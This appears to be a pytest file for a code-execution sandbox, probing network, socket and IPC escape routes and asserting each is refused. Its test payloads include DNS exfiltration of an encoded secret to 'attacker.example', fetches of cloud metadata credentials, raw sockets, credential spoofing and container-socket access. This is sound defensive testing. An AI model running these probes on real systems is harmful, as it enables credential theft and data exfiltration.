"""Networks, and all else that processes talk by: sockets, queues, shared memory, the way to the server."""

from __future__ import annotations

import os
import socket
from contextlib import ExitStack
from pathlib import Path
from tempfile import gettempdir
from urllib.parse import urlsplit

import pytest

from tests.attacks.asking import ask, assert_agent_serves, assert_others_work
from tests.attacks.attack import Attack, Layer, attack, tried
from tests.attacks.stand import ATTACKER, NEIGHBOUR, Stand

OUTSIDE = (
    Attack(
        what="reach the internet and the networks around the host, over TCP and UDP",
        stopped_by=Layer.NETWORK,
        code="""
        import socket
        def reach(kind, address):
            with socket.socket(socket.AF_INET, kind) as s: return attempt(s.connect, (address, 53))
        addresses = "8.8.8.8 192.0.2.1 10.0.0.1 10.0.2.2 172.17.0.1 192.168.0.1 192.168.122.1 100.100.100.200".split()
        {reach(kind, address) for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM) for address in addresses}
        """,
        answers=[{"ENETUNREACH"}],
    ),
    Attack(
        what="reach the internet over IPv6, and IPv4 by addresses of IPv6",
        stopped_by=Layer.NETWORK,
        code="""
        import socket
        def reach(kind, address):
            with socket.socket(socket.AF_INET6, kind) as s: return attempt(s.connect, (address, 53))
        addresses = "2001:4860:4860::8888 fd00:ec2::254 ::ffff:8.8.8.8 64:ff9b::808:808".split()
        {reach(kind, address) for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM) for address in addresses}
        """,
        # The others where the host has IPv6 switched off.
        answers=[{"ENETUNREACH"}, {"EADDRNOTAVAIL", "ENETUNREACH"}, {"EAFNOSUPPORT"}],
    ),
    Attack(
        what="read the credentials that a cloud hands to its machines",
        stopped_by=Layer.NETWORK,
        code="""
        import urllib.request
        def fetch(url):
            try: return urllib.request.urlopen(url).read()
            except OSError as error: return _errno.errorcode[error.reason.errno]
        [fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/"), fetch("http://169.254.170.2/v2/")]
        """,
        answers=[["ENETUNREACH", "ENETUNREACH"]],
    ),
    Attack(
        what="send data to the outside in datagrams and in the first packet of a connection",
        stopped_by=Layer.NETWORK,
        code="""
        import socket
        fast_open = 0x20000000
        stream, datagram = socket.socket(), socket.socket(type=socket.SOCK_DGRAM)
        datagram.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        [attempt(stream.sendto, b"secret", fast_open, ("192.0.2.1", 80)),
         *(attempt(datagram.sendto, b"secret", (a, 53)) for a in ("192.0.2.1", "255.255.255.255", "224.0.0.251"))]
        """,
        answers=[["ENETUNREACH"] * 4],
    ),
    Attack(
        what="carry a secret out in the name that is looked up",
        stopped_by=Layer.NETWORK,
        code="""
        import socket
        def look_up(name):
            try: return socket.getaddrinfo(name, 443)
            except socket.gaierror as error: return error.errno in (socket.EAI_AGAIN, socket.EAI_NONAME)
        [*map(look_up, ("example.com", "73656372657400.attacker.example")), open("/etc/resolv.conf").read()]
        """,
        answers=[[True, True, ""]],
    ),
    Attack(
        what="ask the host's own resolver",
        stopped_by=Layer.NETWORK,
        code="""
        import socket
        def query(address):
            with socket.socket(type=socket.SOCK_DGRAM) as s:
                s.connect((address, 53))
                s.send(bytes.fromhex("000101000001000000000000076578616d706c6503636f6d0000010001"))
                return attempt(s.recv, 512)
        [query("127.0.0.53"), query("127.0.0.1")]
        """,
        answers=[["ECONNREFUSED", "ECONNREFUSED"]],
    ),
    Attack(
        what="give its network an address, a route, a bridge or a tunnel",
        stopped_by=Layer.SECCOMP,
        code="""
        import fcntl, socket
        s = socket.socket(type=socket.SOCK_DGRAM)
        # SIOCADDRT, SIOCSIFFLAGS, SIOCSIFADDR, SIOCSIFNETMASK, SIOCSIFHWADDR, SIOCSIFNAME, SIOCSARP, SIOCETHTOOL…
        calls = (0x890B, 0x8914, 0x8916, 0x891C, 0x8924, 0x8923, 0x8955, 0x89A0, 0x89A2, 0x89F1, 0x8983, 0x89B0)
        [{attempt(fcntl.ioctl, s, call, bytearray(b"lo".ljust(64, bytes(1)))) for call in calls},
         attempt(open, "/dev/net/tun", "r+b")]
        """,
        answers=[[{"ENOTTY"}, "ENOENT"]],
    ),
)

KINDS = (
    Attack(
        what="open sockets of every family",
        stopped_by=Layer.SECCOMP,
        code="""
        import socket
        found = {}
        for family in range(128): found.setdefault(attempt(socket.socket, family, 2), []).append(family)
        rest = found.pop("EAFNOSUPPORT")
        [found, len(rest)]
        """,
        answers=[[{"went through": [1, 2, 10]}, 125]],
    ),
    Attack(
        what="forge packets by a raw socket",
        stopped_by=Layer.SECCOMP,
        code="""
        import socket
        families = (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX)
        [{attempt(socket.socket, family, socket.SOCK_RAW, p) for family in families for p in (0, 1, 6, 17, 58, 255)},
         {attempt(socket.socket, family, kind) for family in families for kind in (0, 4, 6, 10)}]
        """,
        answers=[[{"EPERM"}, {"EPERM"}]],
    ),
    Attack(
        what="listen to all packets by a packet socket",
        stopped_by=Layer.SECCOMP,
        code="""
        import socket
        [attempt(socket.socket, socket.AF_PACKET, kind, socket.htons(3)) for kind in (1, 2, 3, 10)]
        """,
        answers=[["EAFNOSUPPORT"] * 4],
    ),
    Attack(
        what="change routes, filters and processes' accounts over netlink",
        stopped_by=Layer.SECCOMP,
        code="""
        import socket
        {attempt(socket.socket, socket.AF_NETLINK, kind, protocol) for kind in (2, 3) for protocol in range(23)}
        """,
        answers=[{"EAFNOSUPPORT"}],
    ),
    Attack(
        what="talk to the hypervisor by a socket of its own kind",
        stopped_by=Layer.SECCOMP,
        code="""
        import socket
        [attempt(socket.socket, socket.AF_VSOCK, kind) for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM)]
        """,
        answers=[["EAFNOSUPPORT", "EAFNOSUPPORT"]],
    ),
    Attack(
        what="make the kernel load the module of a rare protocol",
        stopped_by=Layer.SECCOMP,
        code="""
        import socket
        usual = (0, 1, 6, 17)
        {attempt(socket.socket, family, kind, protocol)
         for family in (2, 10) for kind in (1, 2) for protocol in (*range(256), 262) if protocol not in usual}
        """,
        answers=[{"EPROTONOSUPPORT"}],
    ),
    Attack(
        what="set options of sockets that only an administrator may set",
        stopped_by=Layer.CAPABILITIES,
        code="""
        import socket
        s = socket.socket(type=socket.SOCK_DGRAM)
        marks = ((socket.SOL_SOCKET, socket.SO_MARK, 1), (socket.SOL_SOCKET, socket.SO_PRIORITY, 7),
                 (socket.SOL_SOCKET, 33, 1 << 30), (socket.SOL_SOCKET, 32, 1 << 30), (socket.SOL_SOCKET, 1, 1),
                 (socket.IPPROTO_IP, socket.IP_TRANSPARENT, 1), (socket.IPPROTO_IP, 64, 1))
        {attempt(s.setsockopt, *mark) for mark in marks} - {"ENOPROTOOPT", "EACCES"}
        """,
        answers=[{"EPERM"}],
    ),
    Attack(
        what="claim to be another process in the credentials of a message",
        stopped_by=Layer.CAPABILITIES,
        code="""
        import socket, struct
        one, two = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        def claim(*credentials):
            told = struct.pack("3i", *credentials)
            return attempt(one.sendmsg, [b"x"], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, told)])
        me = os.getpid(), os.getuid(), os.getgid()
        [claim(*me), claim(1, *me[1:]), claim(me[0], 0, me[2]), claim(*me[:2], 0)]
        """,
        # Rootless, there is no other user at all.
        answers=[["went through", *["EPERM"] * 3], ["went through", "EPERM", "EINVAL", "EINVAL"]],
    ),
)

CHANNEL = (
    Attack(
        what="connect to Docker, D-Bus, containerd and the like",
        stopped_by=Layer.ROOT,
        code="""
        import socket
        names = "docker.sock dbus/system_bus_socket containerd/containerd.sock podman/podman.sock crio/crio.sock"
        names += " systemd/private systemd/notify systemd/journal/stdout snapd.socket libvirt/libvirt-sock nscd/socket"
        paths = [f"{run}/{name}" for run in ("/run", "/var/run") for name in names.split()] + ["/dev/log"]
        {attempt(socket.socket(socket.AF_UNIX).connect, path) for path in (*paths, "/tmp/.X11-unix/X0")}
        """,
        answers=[{"ENOENT"}],
    ),
    Attack(
        what="send descriptors up the way to the server, or learn by it who the server is",
        stopped_by=Layer.DESCRIPTORS,
        code="""
        import socket, stat
        peer_credentials, peer_groups, peer_pidfd, pass_pidfd = 17, 59, 77, 76
        def tell(fd):
            for option in (peer_credentials, peer_groups, peer_pidfd):
                yield syscall("getsockopt", fd, socket.SOL_SOCKET, option, bytes(64), b"\\x40\\0\\0\\0")
            yield syscall("setsockopt", fd, socket.SOL_SOCKET, pass_pidfd, b"\\1\\0\\0\\0", 4)
            yield from (syscall("getpeername", fd, bytes(64), b"\\x40\\0\\0\\0"), syscall("sendmsg", fd, bytes(56), 0))
            yield syscall("shutdown", fd, socket.SHUT_RDWR)
        ways = [fd for fd in range(1024) if attempt(os.fstat, fd) == "went through"]
        [[stat.S_ISFIFO(os.fstat(fd).st_mode) for fd in ways], {told for fd in ways for told in tell(fd)}]
        """,
        answers=[[[False, True, True, True, True], {"ENOTSOCK"}]],
    ),
    Attack(
        what="put pages or other files into the way to the server by splicing",
        stopped_by=Layer.SECCOMP,
        code="""
        import struct
        page = _ctypes.create_string_buffer(4096)
        vector = struct.pack("PN", _ctypes.addressof(page), 4096)
        [syscall("vmsplice", 4, vector, 1, 8), syscall("splice", os.open("/usr/bin/env", 0), None, 4, None, 64, 0),
         syscall("tee", 3, 4, 64, 0)]
        """,
        answers=[["EPERM"] * 3],
    ),
)


@tried((*OUTSIDE, *KINDS, *CHANNEL))
async def test_network(stand: Stand, attack: Attack) -> None:
    await stand.withstands(attack)


@attack("call the server's own API, by every name of the host's loopback", Layer.NETWORK)
async def test_the_servers_port_is_out_of_reach(stand: Stand) -> None:
    port = urlsplit(stand.url).port
    async with stand.unharmed(), stand.client() as client:
        assert (await client.health())["status"] == "ok"
        told = await ask(
            client,
            f"""
            import http.client
            hosts = ("127.0.0.1", "127.0.0.2", "0.0.0.0", "localhost", "::1", "::", "::ffff:127.0.0.1", "insitu")
            head = {{"Authorization": "Bearer {ATTACKER}"}}
            servers = [http.client.HTTPConnection(host, {port}) for host in hosts]
            [attempt(server.request, "GET", "/v1/sessions", None, head) for server in servers]
            """,
        )
    assert set(told) == {"ECONNREFUSED"}


@attack("sit on the server's own port, to catch those who call it", Layer.NETWORK)
async def test_the_servers_port_can_be_had_and_is_of_no_use(stand: Stand) -> None:
    port = urlsplit(stand.url).port
    async with stand.unharmed(), stand.client() as client, client.session() as session:
        assert await ask(
            session, f"import socket; s = socket.create_server(('0.0.0.0', {port})); s.setblocking(False)\n1"
        )
        await assert_others_work(stand)
        assert await ask(session, "attempt(s.accept)") == "EAGAIN"


@attack("reach what listens on the host's loopback, such as the model's server", Layer.NETWORK)
async def test_a_service_of_the_hosts_loopback_hears_nothing(stand: Stand) -> None:
    with socket.create_server(("127.0.0.1", 0)) as tcp, socket.socket(type=socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        for sock in (tcp, udp):
            sock.setblocking(False)
        async with stand.unharmed(), stand.client() as client:
            told = await ask(
                client,
                f"""
                import socket
                datagram = socket.socket(type=socket.SOCK_DGRAM)
                [attempt(socket.create_connection, ("127.0.0.1", {tcp.getsockname()[1]})),
                 attempt(datagram.sendto, b"secret", ("127.0.0.1", {udp.getsockname()[1]}))]
                """,
            )
            # A datagram to nobody is sent all the same: it stays within the sandbox.
            assert told == ["ECONNREFUSED", "went through"]
            with pytest.raises(BlockingIOError):
                tcp.accept()
            with pytest.raises(BlockingIOError):
                udp.recv(10)


@attack("connect to an abstract socket of the host", Layer.NETWORK)
async def test_an_abstract_socket_of_the_host_is_out_of_reach(stand: Stand) -> None:
    names = [f"\0insitu-attack-{os.getpid()}-{kind}" for kind in (1, 2, 5)]
    async with stand.unharmed(), stand.client() as client:
        with ExitStack() as stack:
            for kind, name in zip((1, 2, 5), names, strict=True):
                sock = stack.enter_context(socket.socket(socket.AF_UNIX, kind))
                sock.bind(name)
                if kind != 2:
                    sock.listen()
            connect = f"[attempt(socket.socket(1, k).connect, n) for k, n in zip((1, 2, 5), {names!r})]"
            assert await ask(client, f"import socket; {connect}") == ["ECONNREFUSED"] * 3


@attack("connect to a socket of the host by its path", Layer.ROOT)
async def test_a_path_socket_of_the_host_is_out_of_reach(stand: Stand) -> None:
    path = Path(gettempdir(), f"insitu-attack-{os.getpid()}")
    async with stand.unharmed(), stand.client() as client:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.bind(str(path))
            try:
                path.chmod(0o777)
                sock.listen()
                paths = [str(path), f"/proc/1/root{path}", f"/proc/self/root{path}", f"/..{path}"]
                connect = f"[attempt(socket.socket(socket.AF_UNIX).connect, path) for path in {paths!r}]"
                told = await ask(client, f"import socket; {connect}")
            finally:
                path.unlink()
    assert told == ["ENOENT", "EACCES", "ENOENT", "ENOENT"]


@attack("open the database and the blobs in the server's folder of data", Layer.ROOT)
async def test_the_folder_of_data_is_out_of_sight(stand: Stand, tmp_path_factory: pytest.TempPathFactory) -> None:
    base = tmp_path_factory.getbasetemp()
    paths = [str(path) for folder in base.glob("data*") for path in (folder, *folder.iterdir())]
    assert any(path.endswith(".db") or ".sqlite" in path for path in paths), paths
    async with stand.unharmed(), stand.client() as client:
        assert await ask(client, f"{{attempt(os.stat, path) for path in {[str(base), *paths]!r}}}") == {"ENOENT"}


# What a session sets up, and what another one, of another key, finds of it.
MEETINGS = {
    "TCP on loopback": (
        "held.append(socket.create_server(('127.0.0.1', 4567)))",
        "socket.create_connection(('127.0.0.1', 4567))",
        "ECONNREFUSED",
    ),
    "an abstract socket": (
        "held.append(listening('\\0meet'))",
        "socket.socket(socket.AF_UNIX).connect('\\0meet')",
        "ECONNREFUSED",
    ),
    "a socket with a path": (
        "held.append(listening('/tmp/meet'))",
        "socket.socket(socket.AF_UNIX).connect('/tmp/meet')",
        "ENOENT",
    ),
    "a pipe with a name": ("os.mkfifo('/dev/shm/pipe')", "os.open('/dev/shm/pipe', os.O_RDWR)", "ENOENT"),
    "shared memory of System V": (
        "assert syscall('shmget', 77, 4096, 0o1666) == 'went through'",
        "sysv('shmget', 77, 4096, 0o666)",
        "ENOENT",
    ),
    "semaphores of System V": (
        "assert syscall('semget', 77, 1, 0o1666) == 'went through'",
        "sysv('semget', 77, 1, 0o666)",
        "ENOENT",
    ),
    "a queue of System V": (
        "assert syscall('msgget', 77, 0o1666) == 'went through'",
        "sysv('msgget', 77, 0o666)",
        "ENOENT",
    ),
    "POSIX shared memory": (
        "held.append(SharedMemory('meet', True, 64))",
        "SharedMemory('meet')",
        "ENOENT",
    ),
}
_SYSV = """
import socket
from multiprocessing.shared_memory import SharedMemory
held = []
def listening(name):
    server = socket.socket(socket.AF_UNIX)
    server.bind(name)
    server.listen()
    return server
def sysv(*call):
    if (how := syscall(*call)) != "went through": raise OSError(getattr(_errno, how), how)
"""


@attack("meet a session of another key on loopback, abstract sockets, queues and shared memory", Layer.NAMESPACES)
async def test_sessions_of_two_keys_have_nowhere_to_meet(stand: Stand) -> None:
    async with stand.unharmed(), stand.client() as one, stand.client(NEIGHBOUR) as two:
        async with one.session() as first, two.session() as second:
            await ask(first, "\n".join([_SYSV, *(setup for setup, _, _ in MEETINGS.values()), "1"]))
            # The first session itself finds all of it.
            calls = [f"attempt(lambda: {call})" for _, call, _ in MEETINGS.values()]
            assert await ask(first, f"[{', '.join(calls)}]") == ["went through"] * len(MEETINGS)
            told = await ask(second, f"{_SYSV}\n[{', '.join(calls)}]")
    assert dict(zip(MEETINGS, told, strict=True)) == {name: refusal for name, (_, _, refusal) in MEETINGS.items()}


@attack("meet a session of another key at a POSIX queue", Layer.LANDLOCK)
async def test_sessions_of_two_keys_share_no_queue(stand: Stand) -> None:
    async with stand.unharmed(), stand.client() as one, stand.client(NEIGHBOUR) as two:
        async with one.session() as first, two.session() as second:
            made = await ask(first, "syscall('mq_open', b'meet', os.O_CREAT | os.O_RDWR, 0o666, None)")
            found = await ask(second, "syscall('mq_open', b'meet', os.O_RDWR, 0, None)")
    # No rule of Landlock's names the file system of queues; without it, each sandbox has its own.
    assert made == ("went through" if Layer.LANDLOCK in stand.lacking else "EACCES")
    assert found == "ENOENT"


@attack("have the kernel signal the agent whenever the server reads a pipe", Layer.AGENT)
async def test_the_server_signals_nobody_by_reading(stand: Stand) -> None:
    async with stand.unharmed(), stand.client() as client, client.session() as session:
        told = await ask(
            session,
            """
            import fcntl, signal
            async_io, set_signal = 0x2000, 10
            answer = []
            for number in (signal.SIGKILL, signal.SIGINT, signal.SIGSTOP, 0):
                for fd in (1, 2, 3, 4):
                    answer.append(attempt(fcntl.fcntl, fd, set_signal, number))
                    answer.append(attempt(fcntl.fcntl, fd, fcntl.F_SETOWN, 1))
                    flags = fcntl.fcntl(fd, fcntl.F_GETFL)
                    answer.append(attempt(fcntl.fcntl, fd, fcntl.F_SETFL, flags | async_io))
                print("read this", flush=True)
            set(answer)
            """,
        )
        assert told == {"went through"}
        for _ in range(3):
            await assert_agent_serves(session)


@attack("use up the descriptors that one user may have in flight", Layer.RLIMITS)
async def test_descriptors_in_flight_hold_up_nobody(stand: Stand) -> None:
    async with stand.unharmed(), stand.client() as client, client.session() as session:
        told = await ask(
            session,
            """
            import array, socket
            null = array.array("i", [os.open("/dev/null", os.O_RDONLY)] * 250)
            rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, null)]
            held, count = [], 0
            while count < 1 << 16:
                held += socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
                if (how := attempt(held[-1].sendmsg, [b"x"], rights)) != "went through": break
                count += len(null)
            [how, count <= 1500]
            """,
        )
        assert told == ["ETOOMANYREFS", True]
        await assert_others_work(stand)


@attack("hide more memory than it may have in the buffers of sockets", Layer.CGROUPS)
async def test_memory_in_sockets_is_limited(stand: Stand) -> None:
    if Layer.CGROUPS in stand.lacking:
        pytest.skip("only control groups count it")
    before = memory_of_sockets()
    async with stand.unharmed(10), stand.client() as client, client.session(timeout_s=10) as session:
        await ask(
            session,
            """
            import socket
            server, piece = socket.create_server(("127.0.0.1", 0), backlog=200), bytes(1 << 20)
            held = [socket.create_connection(server.getsockname()) for _ in range(150)]
            for client in held:
                client.setblocking(False)
                while attempt(client.send, piece) == "went through": pass
            1
            """,
        )
        assert memory_of_sockets() - before < 256 << 20
        await assert_others_work(stand)


def memory_of_sockets() -> int:
    """What TCP holds on this machine, in bytes."""
    for line in Path("/proc/net/sockstat").read_text("ascii").splitlines():
        if line.startswith("TCP:"):
            return int(line.split()[-1]) * os.sysconf("SC_PAGE_SIZE")
    raise AssertionError("the kernel tells nothing of TCP")
